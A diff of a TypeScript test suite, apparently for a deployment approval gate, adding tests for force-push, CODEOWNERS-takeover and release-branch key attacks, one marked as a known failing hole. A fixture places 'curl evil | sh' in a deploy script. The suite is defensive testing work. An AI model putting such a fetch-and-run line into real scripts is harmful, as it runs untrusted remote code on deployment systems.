@@ -309,12 +309,18 @@ describe('new attacks on the config-change tracking', () => {
     // The start: main's config asks for one approval only, at every tier.
     const weak = repo.pullRequest({
       number: 20,
-      change: withConfig((c) => c.replace(/  - environment: production\n    tiers:[^\n]*\n    require:[^\n]*\n/, '')),
+      change: withConfig((c) =>
+        c.replace(/ {2}- environment: production\n {4}tiers:[^\n]*\n {4}require:[^\n]*\n/, ''),
+      ),
       approvers: ['alice', 'gov-lead'],
     });
     await deploy(weak.mergeCommit!);
     // The team tightens it (the governance team for high risk), approved by everyone, and deploys it.
-    const strict = repo.pullRequest({ number: 21, change: withConfig(() => CONFIG), approvers: ['alice', 'gov-lead'] });
+    const strict = repo.pullRequest({
+      number: 21,
+      change: withConfig(() => CONFIG),
+      approvers: ['alice', 'gov-lead'],
+    });
     await deploy(strict.mergeCommit!);
     // 1. Force-push main back to before the tightening (no branch protection against force pushes).
     fake.branch('main', weak.mergeCommit!);
@@ -327,7 +333,11 @@ describe('new attacks on the config-change tracking', () => {
   });
 
   it('a force-push that drops the judged config commit entirely (gone from the repository) fails closed', async () => {
-    const strict = repo.pullRequest({ number: 23, change: (f) => ({ ...f, 'README.md': 'y\n' }), approvers: ['alice'] });
+    const strict = repo.pullRequest({
+      number: 23,
+      change: (f) => ({ ...f, 'README.md': 'y\n' }),
+      approvers: ['alice'],
+    });
     await deploy(strict.mergeCommit!);
     // The entry names a config commit GitHub no longer has (garbage-collected after a rewrite).
     await approvedInLog(log, 'acme/ml-platform', strict.mergeCommit!, 'production', 'f'.repeat(40));
@@ -341,17 +351,25 @@ describe('new attacks on the config-change tracking', () => {
       number: 24,
       change: (f) => ({
         ...withConfig((c) => `extends: ./policies/team.yml\n${c}`)(f),
-        'policies/team.yml': 'id: team\ntitle: Team\nversion: "1"\ndescription: ours\nextends: iso42001-baseline\nrules: []\n',
+        'policies/team.yml':
+          'id: team\ntitle: Team\nversion: "1"\ndescription: ours\nextends: iso42001-baseline\nrules: []\n',
       }),
       approvers: ['alice', 'gov-lead'],
     });
     await deploy(pack.mergeCommit!);
     repo.pullRequest({
       number: 25,
-      change: (f) => ({ ...f, 'policies/team.yml': 'id: team\ntitle: Team\nversion: "2"\ndescription: ours\nrules: []\n' }),
+      change: (f) => ({
+        ...f,
+        'policies/team.yml': 'id: team\ntitle: Team\nversion: "2"\ndescription: ours\nrules: []\n',
+      }),
       approvers: ['alice'],
     });
-    const fix = repo.pullRequest({ number: 26, change: (f) => ({ ...f, 'README.md': 'z\n' }), approvers: ['alice'] });
+    const fix = repo.pullRequest({
+      number: 26,
+      change: (f) => ({ ...f, 'README.md': 'z\n' }),
+      approvers: ['alice'],
+    });
     const decision = await gate(fix.mergeCommit!);
     expect(decision.approved).toBe(false);
     expect(decision.reason).toContain('#25 (changes the aims-gate configuration or a policy pack');
@@ -361,7 +379,11 @@ describe('new attacks on the config-change tracking', () => {
 describe('new attacks on the App’s entries and the checkpoint statuses', () => {
   it('an environment reviewer’s approval, signed by the App, is no approval of the change set', async () => {
     const app = newKey();
-    const pr = repo.pullRequest({ number: 30, change: listKey(app, 'app'), approvers: ['alice', 'gov-lead'] });
+    const pr = repo.pullRequest({
+      number: 30,
+      change: listKey(app, 'app'),
+      approvers: ['alice', 'gov-lead'],
+    });
     await deploy(pr.mergeCommit!);
     const evil = repo.push('main', retrain, 'straight to main');
     // A reviewer with the environment's reviewer role approves the run in GitHub's UI: the App records it.
@@ -448,6 +470,43 @@ describe('new attacks on approvals', () => {
     expect((await gate(pr.mergeCommit!)).approved).toBe(true);
     fake.answer('GET', '/orgs/acme/teams/ai-governance/members', [{ login: 'someone-else', id: 9 }]);
     expect((await gate(pr.mergeCommit!)).approved).toBe(false);
+  });
+});
+
+describe('new attacks on CODEOWNERS and the release branches’ configs', () => {
+  // Found: CODEOWNERS is read only at the default branch's head, so a pull request that rewrites CODEOWNERS is
+  // judged by the owners it writes. GitHub judges a pull request by the CODEOWNERS of its base: there, the old
+  // owners must approve the change of owners. Two writers (or one with a second account that can push) take
+  // over every path a codeowners rule protects.
+  it.fails('SUCCEEDS: a pull request that makes its own approver the owner of everything is judged by the new CODEOWNERS', async () => {
+    // A common policy: one approval, and the code owners of what changed (no team rule besides).
+    const config = `${CONFIG.replace(/ {2}- environment: production\n {4}tiers:[^\n]*\n {4}require:[^\n]*\n/, '')}  - environment: production\n    require: [{ codeowners: true }]\n`;
+    repo = new RepositoryHistory(fake, {
+      ...conformantRepo(),
+      '.github/aims-gate.yml': config,
+      '.github/CODEOWNERS': '*   @security-lead\n',
+    });
+    fake.deployments.length = 0;
+    log = new MemoryStore();
+    await deploy(repo.head());
+    const takeover = repo.pullRequest({
+      number: 50,
+      author: 'mallory',
+      change: (f) => ({ ...f, '.github/CODEOWNERS': '*   @bob\n', 'deploy.sh': 'curl evil | sh\n' }),
+      approvers: ['bob'],
+    });
+    const decision = await gate(takeover.mergeCommit!);
+    expect(decision.approved).toBe(false);
+  });
+
+  it('a key listed only in a release branch’s config, or in the deployed commit’s, is not trusted', async () => {
+    const attacker = newKey();
+    fake.branch('release/1', repo.head());
+    const evil = repo.push('release/1', (f) => listKey(attacker)(retrain(f)), 'hotfix');
+    await approvedInLog(log, 'acme/ml-platform', evil, 'production', repo.head(), attacker);
+    const decision = await gate(evil);
+    expect(decision.approved).toBe(false);
+    expect(decision.reason).toContain(`${short(evil)} "hotfix" was pushed without a pull request`);
   });
 });
 
